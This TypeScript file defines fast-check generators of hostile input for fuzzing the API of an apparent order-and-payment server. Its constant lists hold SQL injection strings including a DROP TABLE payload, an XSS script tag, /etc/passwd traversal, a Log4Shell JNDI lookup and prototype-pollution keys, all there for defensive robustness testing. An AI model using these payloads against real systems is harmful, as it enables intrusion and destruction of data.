import fc from "fast-check";

/**
 * Generators of hostile input for the fuzzing test. JSON is built as text from a tree of
 * our own, so keys such as `__proto__` reach the server literally (a JavaScript object
 * literal would swallow them).
 */

export type Json = null | boolean | number | string | Json[] | { entries: [string, Json][] };

/** Keys an attacker tries: prototype pollution, mass assignment, lookalikes, random text. */
export const hostileKey = fc.oneof(
  fc.constantFrom("__proto__", "constructor", "prototype", "role", "status", "amountTotal", "userId", "isActive", "paidAt", "id", "items", "email", "password", "productId", "quantity", "amount", "unitAmount", "currency"),
  fc.string({ maxLength: 12 }),
  fc.string({ unit: "grapheme", maxLength: 8 }),
);

/** Strings: unicode, control characters, injection attempts, and some very long ones. */
export const hostileString = fc.oneof(
  { weight: 4, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 3, arbitrary: fc.string({ unit: "grapheme", maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 20 }) },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      "' OR 1=1 --",
      "'; DROP TABLE \"Order\"; --",
      "<script>alert(1)</script>",
      "\u0000",
      "%00",
      "../../../etc/passwd",
      "${jndi:ldap://x/a}",
      "{{7*7}}",
      "\uFEFF\u202E",
      "NaN",
      "-1",
      "1e309",
      "00000000-0000-0000-0000-000000000000",
      "ffffffff-ffff-ffff-ffff-ffffffffffff",
      "cs_",
      "cs_test_" + "a".repeat(300),
    ),
  },
  { weight: 1, arbitrary: fc.integer({ min: 1000, max: 200_000 }).map((n) => "x".repeat(n)) },
);

/** Numbers: negative, zero, fractions, beyond int32 and float range, -0. */
export const hostileNumber = fc.oneof(
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.constantFrom(-1, 0, -0, 0.5, 99.9, 100, 2 ** 31, 2 ** 53 + 2, 1e21, -1e308, 1e308),
);

export const hostileJson: fc.Arbitrary<Json> = fc.letrec<{ value: Json }>((tie) => ({
  value: fc.oneof(
    { depthSize: "small", withCrossShrink: true },
    hostileString,
    hostileNumber,
    fc.boolean(),
    fc.constant(null),
    fc.array(tie("value"), { maxLength: 4 }),
    fc.array(fc.tuple(hostileKey, tie("value")), { maxLength: 4 }).map((entries) => ({ entries })),
  ),
})).value;

/** Nesting thousands of levels deep: arrays or objects. */
export const deepJson = fc.tuple(fc.integer({ min: 100, max: 20_000 }), fc.boolean()).map(([depth, arrays]) =>
  arrays ? "[".repeat(depth) + "]".repeat(depth) : '{"a":'.repeat(depth) + "1" + "}".repeat(depth),
);

export function toJsonText(value: Json): string {
  if (value === null || typeof value !== "object") return JSON.stringify(value) ?? "null";
  if (Array.isArray(value)) return `[${value.map(toJsonText).join(",")}]`;
  return `{${value.entries.map(([k, v]) => `${JSON.stringify(k)}:${toJsonText(v)}`).join(",")}}`;
}

/** An object whose `keys` are set to hostile values, plus `extra` hostile entries. */
export function objectWith(fields: Record<string, fc.Arbitrary<Json>>, extra: fc.Arbitrary<[string, Json][]> = fc.constant([])): fc.Arbitrary<Json> {
  return fc.tuple(fc.record(fields, { requiredKeys: [] }), extra).map(([known, more]) => ({ entries: [...Object.entries(known), ...more] as [string, Json][] }));
}

/** Bodies that are not JSON at all, sent as application/json. */
export const malformedJson = fc.oneof(
  fc.string({ minLength: 1, maxLength: 200 }).filter((s) => !isJson(s)),
  fc.constantFrom("{", "{\"items\":", "[1,2", "{'a':1}", "{\"a\":1,}", "NaN", "undefined", "{\"a\":01}", "\"unterminated", "{\"__proto__\":"),
);

function isJson(text: string): boolean {
  try {
    JSON.parse(text);
    return true;
  } catch {
    return false;
  }
}

/** Content types that are not JSON, or JSON in a charset we do not read. */
export const wrongContentType = fc.constantFrom(
  "text/plain",
  "application/xml",
  "text/html",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=x",
  "application/octet-stream",
  "application/json; charset=utf-16",
  "application/json; charset=latin1",
  "application/jsonx",
  "image/png",
);

/** Header values Node's client can send (no CR/LF): printable ASCII and Latin-1. */
export const headerValue = fc.string({ unit: fc.integer({ min: 0x20, max: 0xff }).filter((c) => c !== 0x7f).map((c) => String.fromCharCode(c)), maxLength: 300 });

/** Path segments: invalid ids of every kind, percent-encoded. */
export const hostileSegment = fc.oneof(hostileString, fc.uuid().map((u) => u.toUpperCase() + "x"), fc.constantFrom("..", ".", "%2e%2e", "null", "undefined", "0")).map((s) => encodeURIComponent(s.slice(0, 3000)) || "%20");

/** Query strings: repeated keys, unknown keys, huge and odd values. */
export const hostileQuery = fc
  .array(fc.tuple(fc.oneof(fc.constantFrom("limit", "cursor", "page", "__proto__", "limit[]", "cursor[a]"), hostileKey), fc.oneof(hostileString, hostileNumber.map(String))), { minLength: 1, maxLength: 5 })
  .map((pairs) => pairs.map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(v.slice(0, 5000))}`).join("&"));
